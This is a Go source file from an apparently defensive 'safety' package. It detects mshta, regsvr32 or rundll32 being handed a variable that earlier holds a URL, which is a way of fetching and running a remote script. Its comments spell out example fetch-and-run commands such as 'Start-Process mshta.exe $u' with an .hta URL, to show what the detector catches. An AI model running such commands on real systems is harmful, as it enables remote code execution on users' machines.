package safety

import (
	"strings"
)

// Round 81 (payload), tuned on fresh242's leftover: the Windows binaries
// that fetch and run a script in one step (mshta, regsvr32's scriptlet
// loader, rundll32's javascript: handler; round 39, remote.go) handed
// the URL in a variable.
//
// "$u='https://host/f.hta'; Start-Process mshta.exe $u" runs the same
// remote script as "mshta https://host/f.hta": the variable only moves
// the URL one statement up. A variable set to a URL in the text (a
// PowerShell "$u = '...'", a cmd "set u=...", a shell "u=...") and then
// given to one of those binaries is read as the call with the URL in
// place, and judged as round 39 judges the call (a known installer host
// vouches for it, nothing else does). A variable set to a local path,
// or a binary given a local file, is no fetch.

var (
	// lolbinVarCall81: one of the binaries, then (after PowerShell's
	// Start-Process and its -ArgumentList) a variable as its argument.
	lolbinVarCall81 = lazyRegexp(`(?i)\b(mshta|regsvr32|rundll32)(?:\.exe)?["']?(?:\s+-ArgumentList)?\s+((?:/s\s+|/n\s+|/u\s+)*(?:/i:)?)["']?(\$\{?[a-z_]\w{0,40}\}?|%[a-z_]\w{0,40}%)`)
	// urlAssign81: a variable set to a URL: PowerShell, cmd or a shell.
	urlAssign81 = lazyRegexp(`(?im)(?:\$([a-z_]\w{0,40})\s*=\s*|^\s*set\s+"?([a-z_]\w{0,40})=|^\s*(?:export\s+)?([a-z_]\w{0,40})=)["']?(https?://[^\s"';]{1,300})`)
)

type lolbinVar81 struct {
	span [2]int
	call string // the call with the variable's URL in place
}

// lolbinViaVariable81 finds the binaries called with a variable that the
// text set to a URL before the call.
func lolbinViaVariable81(text string) []lolbinVar81 {
	low := strings.ToLower(text)
	if !strings.Contains(low, "http") {
		return nil
	}
	var out []lolbinVar81
	for _, m := range lolbinVarCall81.FindAllStringSubmatchIndex(text, 8) {
		name := strings.ToLower(strings.Trim(text[m[6]:m[7]], "${}%"))
		url := ""
		for _, a := range urlAssign81.FindAllStringSubmatchIndex(text[:m[0]], -1) {
			for g := 1; g <= 3; g++ {
				if a[2*g] >= 0 && strings.ToLower(text[a[2*g]:a[2*g+1]]) == name {
					url = text[a[8]:a[9]]
				}
			}
		}
		if url == "" {
			continue
		}
		out = append(out, lolbinVar81{span: [2]int{m[0], m[1]}, call: text[m[2]:m[3]] + " " + text[m[4]:m[5]] + url})
	}
	return out
}
